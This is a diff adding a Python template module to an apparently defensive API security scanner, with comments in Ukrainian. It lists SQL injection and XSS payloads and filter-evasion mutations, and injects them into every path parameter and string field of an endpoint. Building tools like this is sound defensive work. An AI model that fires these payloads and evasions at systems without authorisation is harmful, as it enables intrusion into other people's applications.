@@ -0,0 +1,198 @@
+# Цей файл знаходиться в: tester/templates.py
+
+import copy
+from typing import Dict, Any, Iterator, List, Optional, Tuple
+from urllib.parse import quote
+
+from tester.scheduler import build_benign_test
+
+# --- Бібліотека шаблонів атак ---
+# Тільки не-деструктивні payload: read-only SQLi, time-based SQLi та XSS.
+# Жодних DROP / DELETE / UPDATE / INSERT - так само, як у промпті AttackGenerator.
+# Формат: клас атаки -> ((коротка назва, payload), ...)
+PAYLOAD_TEMPLATES = {
+    "time_based_sqli": (
+        ("SLEEP", "1' AND SLEEP(5)--"),
+        ("SLEEP без лапок", "1 AND SLEEP(5)"),
+        ("WAITFOR DELAY", "1'; WAITFOR DELAY '0:0:5'--"),
+        ("pg_sleep", "1 AND 1=(SELECT 1 FROM pg_sleep(5))"),
+    ),
+    "error_based_sqli": (
+        ("одинарна лапка", "'"),
+        ("подвійна лапка", "\""),
+        ("незакрита лапка", "1'"),
+        ("OR '1'='1", "1' OR '1'='1"),
+        ("OR 1=1 з коментарем", "' OR 1=1--"),
+        ("OR 1=1 без лапок", "1 OR 1=1"),
+        ("закриття дужки", "') OR ('1'='1"),
+        ("ORDER BY", "1' ORDER BY 100--"),
+        ("UNION SELECT", "' UNION SELECT NULL--"),
+        ("CAST", "1 AND 1=CAST('a' AS INTEGER)"),
+    ),
+    "reflected_xss": (
+        ("script", "<script>alert(1)</script>"),
+        ("img onerror", "\"><img src=x onerror=alert(1)>"),
+        ("svg onload", "<svg/onload=alert(1)>"),
+        ("javascript: URI", "javascript:alert(1)"),
+        ("iframe", "'\"><iframe src=javascript:alert(1)>"),
+    ),
+}
+
+# Назва класу в описі тест-кейсу (ключові слова збігаються з tester/rules.py)
+ATTACK_CLASS_LABELS = {
+    "time_based_sqli": "Time-based SQLi",
+    "error_based_sqli": "Error-based SQLi",
+    "reflected_xss": "XSS",
+}
+
+
+def _mixed_case(payload: str) -> str:
+    """sElEcT замість SELECT: обхід фільтрів, чутливих до регістру."""
+    return "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(payload))
+
+
+# Мутації (кодування) payload: назва -> функція
+MUTATIONS = {
+    "змішаний регістр": _mixed_case,
+    "коментарі замість пробілів": lambda payload: payload.replace(" ", "/**/"),
+    "URL-кодування": lambda payload: quote(payload, safe=""),
+}
+
+# Які мутації застосовувати до якого класу.
+# Time-based атаки не мутуємо: кожна з них триває секунди і виконується в окремій смузі.
+CLASS_MUTATIONS = {
+    "time_based_sqli": (),
+    "error_based_sqli": ("змішаний регістр", "коментарі замість пробілів", "URL-кодування"),
+    "reflected_xss": ("змішаний регістр", "URL-кодування"),
+}
+
+
+def expand_payloads(attack_class: str, mutate: bool = True) -> Iterator[Tuple[str, str]]:
+    """Пари (назва, payload) для класу атаки: шаблони та (опційно) їх мутації без повторів."""
+    seen = set()
+    for name, payload in PAYLOAD_TEMPLATES[attack_class]:
+        variants = [(name, payload)]
+        if mutate:
+            variants += [(f"{name}, {mutation}", MUTATIONS[mutation](payload))
+                         for mutation in CLASS_MUTATIONS[attack_class]]
+        for variant_name, variant in variants:
+            if variant not in seen:
+                seen.add(variant)
+                yield variant_name, variant
+
+
+def _is_string_field(field_schema: Dict[str, Any]) -> bool:
+    """Рядкове поле без enum (enum відхиляється валідацією ще до логіки)."""
+    if field_schema.get('enum'):
+        return False
+    if field_schema.get('type') == 'string':
+        return True
+    # Optional[str] у FastAPI: anyOf [{type: string}, {type: null}]
+    return any(_is_string_field(variant) for variant in field_schema.get('anyOf', []))
+
+
+def string_fields(schema: Dict[str, Any], prefix: Tuple[str, ...] = ()) -> Iterator[Tuple[str, ...]]:
+    """
+    Шляхи до всіх рядкових полів схеми тіла запиту (з вкладеними об'єктами).
+    Шлях - кортеж імен полів, напр. ('owner', 'name').
+    """
+    for name, field_schema in schema.get('properties', {}).items():
+        path = prefix + (name,)
+        if _is_string_field(field_schema):
+            yield path
+        elif field_schema.get('type') == 'object':
+            yield from string_fields(field_schema, path)
+
+
+def _with_field(base: Dict[str, Any], path: Tuple[str, ...], value: Any) -> Dict[str, Any]:
+    """Копія тіла запиту, в якій поле за шляхом path замінено на value."""
+    payload = copy.deepcopy(base)
+    target = payload
+    for name in path[:-1]:
+        if not isinstance(target.get(name), dict):
+            target[name] = {}
+        target = target[name]
+    target[path[-1]] = value
+    return payload
+
+
+class TemplateGenerator:
+    """
+    Модуль 2 (альтернатива LLM): Генератор атак за шаблонами.
+    Детерміновано розгортає бібліотеку не-деструктивних payload (SQLi, XSS)
+    та їх мутації по кожному рядковому полю тіла запиту і кожному параметру шляху.
+    Працює локально, без запитів до моделі, тож тисячі тест-кейсів за секунду
+    і однаковий результат при кожному запуску.
+    Інтерфейс той самий, що в AttackGenerator (generate_test_cases_for_endpoint, generate_all).
+    """
+
+    def __init__(self, attack_classes: Optional[List[str]] = None, mutate: bool = True):
+        self.attack_classes = attack_classes or list(PAYLOAD_TEMPLATES)
+        self.mutate = mutate
+        # Розгорнуті payload однакові для всіх ендпоінтів - рахуємо їх один раз
+        self._payloads = [(attack_class, name, payload)
+                          for attack_class in self.attack_classes
+                          for name, payload in expand_payloads(attack_class, mutate)]
+        # Для параметрів шляху - без '/': сервер декодує %2F ще до маршрутизації, і такий
+        # payload (напр., <svg/onload=...> або коментарі /**/) потрапляє в інший маршрут (404)
+        self._path_payloads = [item for item in self._payloads if "/" not in item[2]]
+
+    def iter_test_cases(self, endpoint_data: Dict[str, Any]) -> Iterator[Dict[str, Any]]:
+        """
+        Ліниво генерує тест-кейси для одного ендпоінта.
+        Тест для параметра шляху має ключ 'param' (див. build_request_args),
+        тест для тіла - ключ 'field' (шлях до поля через крапку).
+        """
+        # 1. Кожен параметр шляху
+        for param in endpoint_data.get('parameters') or []:
+            if param.get('in') != 'path':
+                continue
+            for attack_class, name, payload in self._path_payloads:
+                yield {
+                    "description": f"{ATTACK_CLASS_LABELS[attack_class]} ({name}) у параметрі {param['name']}",
+                    "payload": payload,
+                    "param": param['name'],
+                    "attack_classes": [attack_class],
+                }
+
+        # 2. Кожне рядкове поле тіла запиту (решта полів - безпечні значення)
+        schema = endpoint_data.get('requestBodySchema')
+        if schema:
+            base = build_benign_test(endpoint_data)['payload']
+            for path in string_fields(schema):
+                field = ".".join(path)
+                for attack_class, name, payload in self._payloads:
+                    yield {
+                        "description": f"{ATTACK_CLASS_LABELS[attack_class]} ({name}) у полі {field}",
+                        "payload": _with_field(base, path, payload),
+                        "field": field,
+                        "attack_classes": [attack_class],
+                    }
+
+    def generate_test_cases_for_endpoint(self, endpoint_data: Dict[str, Any]) -> List[Dict[str, Any]]:
+        return list(self.iter_test_cases(endpoint_data))
+
+    def generate_all(self, endpoints: List[Dict[str, Any]]) -> Iterator[Tuple[Dict[str, Any], List[Dict[str, Any]]]]:
+        """Пари (endpoint, test_cases) по одному ендпоінту за раз, у порядку специфікації."""
+        for endpoint in endpoints:
+            yield endpoint, self.generate_test_cases_for_endpoint(endpoint)
+
+
+class HybridGenerator:
+    """
+    Поєднує LLM та шаблони: для кожного ендпоінта - тест-кейси від моделі
+    плюс детерміновані тест-кейси з бібліотеки шаблонів.
+    """
+
+    def __init__(self, llm_generator, template_generator: TemplateGenerator):
+        self.llm_generator = llm_generator
+        self.template_generator = template_generator
+
+    def generate_test_cases_for_endpoint(self, endpoint_data: Dict[str, Any]) -> List[Dict[str, Any]]:
+        return (self.llm_generator.generate_test_cases_for_endpoint(endpoint_data)
+                + self.template_generator.generate_test_cases_for_endpoint(endpoint_data))
+
+    def generate_all(self, endpoints: List[Dict[str, Any]]) -> Iterator[Tuple[Dict[str, Any], List[Dict[str, Any]]]]:
+        # Один план на ендпоінт (ScanState нумерує тести всередині плану)
+        for endpoint, test_cases in self.llm_generator.generate_all(endpoints):
+            yield endpoint, test_cases + self.template_generator.generate_test_cases_for_endpoint(endpoint)